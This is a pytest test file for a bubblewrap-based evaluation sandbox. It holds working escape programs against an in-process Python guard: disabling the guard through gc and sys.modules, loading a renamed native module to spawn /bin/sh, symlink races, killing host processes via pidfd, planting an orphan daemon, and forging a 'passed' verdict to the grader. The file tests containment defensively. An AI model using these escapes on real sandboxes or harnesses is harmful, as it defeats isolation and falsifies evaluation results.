"""Hostile programs against the sandbox: the operating-system boundary holds where the in-process guard cannot.

Each escape class first gets past the guard its own way; the namespaced sandbox must contain it,
and (where that is safe to show on the host) the fallback guard alone must not, which proves the
attack is real.
"""

import os
import signal
import socket
import subprocess
import sys
import textwrap
import time
import uuid
from pathlib import Path

import pytest

from evals import sandbox
from evals.sandbox import Limits, bubblewrap_problem, run_python

pytestmark = pytest.mark.skipif(bubblewrap_problem() is not None, reason=f"needs bubblewrap: {bubblewrap_problem()}")

# Gets past every check of the guard: its state lives in the interpreter the program runs in.
GUARD_OFF = textwrap.dedent("""
    import gc, sys
    for thing in gc.get_objects():
        if isinstance(thing, set) and ("os.system" in thing or "os.remove" in thing or "_ctypes" in thing):
            thing.clear()
    sys.modules["__main__"].WRITE_FLAGS = 0
""")

RENAMED_NATIVE = textwrap.dedent("""
    import importlib.util, os, shutil
    shutil.copy(importlib.util.find_spec("_posixsubprocess").origin, "harmless.so")
    spec = importlib.util.spec_from_file_location("harmless._posixsubprocess", "harmless.so")
    native = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(native)  # its import event names "harmless._posixsubprocess", which the guard lets by
    read, write = os.pipe()
    native.fork_exec([b"/bin/sh"], [b"/bin/sh"], True, (write,), None, None, -1, -1, -1, -1, -1, -1, read, write,
                     True, False, -1, None, None, None, -1, None, False)
    os.close(write)
    os.read(read, 100)
    import time; time.sleep(0.5)
""")

RACE = textwrap.dedent("""
    import os, time
    os.makedirs("d1")
    os.symlink("d1", "a")
    os.symlink("a/..", "L")  # the guard sees L = the working directory; point `a` at "." and L is its parent

    def flip(*_):
        for target in (".", "d1"):
            os.symlink(target, "a.new")
            os.rename("a.new", "a")
    {start}
    deadline = time.monotonic() + 1.5
    while time.monotonic() < deadline:
        try:
            open("L/{token}", "w").write("out")
        except OSError:
            pass
""")
RACE_STARTS = {
    "thread": "import threading\nthreading.Thread(target=lambda: [flip() for _ in range(100000)], daemon=True).start()",
    "signal": "import signal\nsignal.signal(signal.SIGALRM, flip)\nsignal.setitimer(signal.ITIMER_REAL, 0.0001, 0.0001)",
}


def escapes(host: Path, victim: int, token: str) -> dict[str, str]:
    """Escape class -> program. Evidence of an escape: `host/escaped`, a dead victim, a /tmp file or a surviving daemon."""
    target = f"{str(host)!r} + '/escaped'"
    return {
        "fifo": f"import os\nos.mkfifo({target})\n",
        "device-node": f"import os, stat\nos.mknod({target}, stat.S_IFCHR | 0o600, os.makedev(1, 3))\n",
        "pidfd-kill": f"import os, signal\nsignal.pidfd_send_signal(os.pidfd_open({victim}), signal.SIGKILL)\n",
        "renamed-native-module": RENAMED_NATIVE.replace('[b"/bin/sh"], [b"/bin/sh"]', f'[b"/bin/sh", b"-c", b"touch {host}/escaped"], [b"/bin/sh"]'),
        "patched-builtins": f"import builtins\nbuiltins.isinstance = lambda *args: True\nopen({target}, 'w').write('out')\n",
        "patched-os-path": f"import os, os.path\nos.path.realpath = lambda path, **kw: os.getcwd()\nopen({target}, 'w').write('out')\n",
        "sys-modules": f"import sys, os\nguard = sys.modules['__main__']\nguard.BLOCKED_EVENTS.clear()\nos.system('touch {host}/escaped')\n",
        "gc": GUARD_OFF + f"import os\nos.system('touch {host}/escaped')\n",
        "symlink-race-thread": RACE.format(start=RACE_STARTS["thread"], token=token),
        "symlink-race-signal": RACE.format(start=RACE_STARTS["signal"], token=token),
        "double-fork-daemon": GUARD_OFF + textwrap.dedent(f"""
            import os
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.execv("/bin/sleep", ["sleep", "30.{token}"])
                os._exit(0)
            import time; time.sleep(0.3)
        """),
        "forged-verdict": "import os\nfor fd in range(3, 64):\n    try:\n        os.write(fd, b'passed')\n    except OSError:\n        pass\n"
                          "raise AssertionError('the tests failed')\n",
    }


def new_token() -> str:
    """Digits, so that `sleep 30.<token>` is a valid duration that marks a process."""
    return str(uuid.uuid4().int)[:18]


def daemons(token: str, besides: int | None = None) -> list[int]:
    """Processes whose command line carries `token` (other than `besides`)."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and int(entry.name) != besides and token.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            pass
    return found


def escaped(host: Path, victim: subprocess.Popen, token: str) -> list[str]:
    """Every sign that something got out."""
    signs = []
    if (host / "escaped").exists() or (host / "escaped").is_symlink():
        signs.append("a file outside the sandbox")
    if victim.poll() is not None:
        signs.append("a host process was killed")
    if Path(f"/tmp/{token}").exists():
        signs.append("a file in the host's /tmp")
    deadline = time.monotonic() + 5
    while (survivors := daemons(token)) and time.monotonic() < deadline:
        time.sleep(0.1)
    if survivors:
        signs.append("a process outlived the run")
    return signs


@pytest.fixture
def victim():
    process = subprocess.Popen(["sleep", "60"])
    yield process
    process.kill()
    process.wait()


CLASSES = list(escapes(Path("/x"), 0, "t"))


@pytest.mark.parametrize("name", CLASSES)
def test_each_escape_class_is_contained(name: str, tmp_path: Path, victim: subprocess.Popen):
    token = new_token()
    run = run_python(escapes(tmp_path, victim.pid, token)[name], Limits(timeout_s=5))
    assert escaped(tmp_path, victim, token) == []
    if name == "forged-verdict":
        assert not run.passed and run.error == "AssertionError: the tests failed"


@pytest.mark.parametrize("name", ["fifo", "device-node", "pidfd-kill", "renamed-native-module", "patched-builtins",
                                  "patched-os-path", "sys-modules", "gc", "double-fork-daemon"])
def test_the_fallback_guard_alone_lets_it_out(name: str, tmp_path: Path, victim: subprocess.Popen, monkeypatch: pytest.MonkeyPatch):
    """Why the fallback warns: the same programs get past an in-process guard (each only as far as this test's own files)."""
    if os.getuid() != 0 and name == "device-node":
        pytest.skip("only root may make device nodes")
    monkeypatch.setattr(sandbox, "bubblewrap_problem", lambda: "testing the fallback")
    token = new_token()
    run_python(escapes(tmp_path, victim.pid, token)[name], Limits(timeout_s=5))
    try:
        assert escaped(tmp_path, victim, token) != []
    finally:
        for pid in daemons(token):
            os.kill(pid, signal.SIGKILL)


def test_the_sandbox_is_its_own_user_pid_and_network_namespace_on_a_read_only_system():
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    program = GUARD_OFF + textwrap.dedent(f"""
        import os, socket
        assert os.getuid() == 65534 and os.getgid() == 65534
        assert len([p for p in os.listdir("/proc") if p.isdigit()]) <= 2  # bubblewrap's init and this program
        try:
            socket.create_connection(("127.0.0.1", {port}), timeout=1)
            raise SystemExit("reached the host's loopback")
        except ConnectionRefusedError:
            pass
        for place in ("/", "/usr", "/etc", "/tmp", {str(Path(sys.base_prefix).resolve())!r}):
            try:
                open(place + "/written", "w")
                raise SystemExit("wrote to " + place)
            except OSError:
                pass
        open("/sandbox/ok", "w").write("the working directory is writable")
        assert not os.path.exists({str(Path.home())!r} + "/.ssh") and not os.path.exists("/work")
    """)
    run = run_python(program)
    listener.close()
    assert run.passed, run.error + run.stderr


def test_the_working_directory_is_a_capped_tmpfs():
    program = GUARD_OFF + "chunk = b'x' * 2**20\nfor i in range(100):\n    open(f'f{i}', 'wb').write(chunk)\n"
    run = run_python(program, Limits(workdir_bytes=8 * 2**20))
    assert not run.passed and "No space left" in run.error


def test_the_sandbox_dies_with_the_process_that_started_it():
    token = new_token()
    program = GUARD_OFF + f"import os\nos.execv('/bin/sleep', ['sleep', '60.{token}'])\n"
    script = f"from evals.sandbox import Limits, run_python\nrun_python({program!r}, Limits(timeout_s=120))\n"
    harness = subprocess.Popen([sys.executable, "-c", script], cwd=Path(__file__).resolve().parents[2])
    deadline = time.monotonic() + 30
    while not daemons(token, besides=harness.pid) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert daemons(token, besides=harness.pid), "the sandboxed program never started"
    harness.kill()
    harness.wait()
    deadline = time.monotonic() + 10
    while daemons(token) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert daemons(token) == []
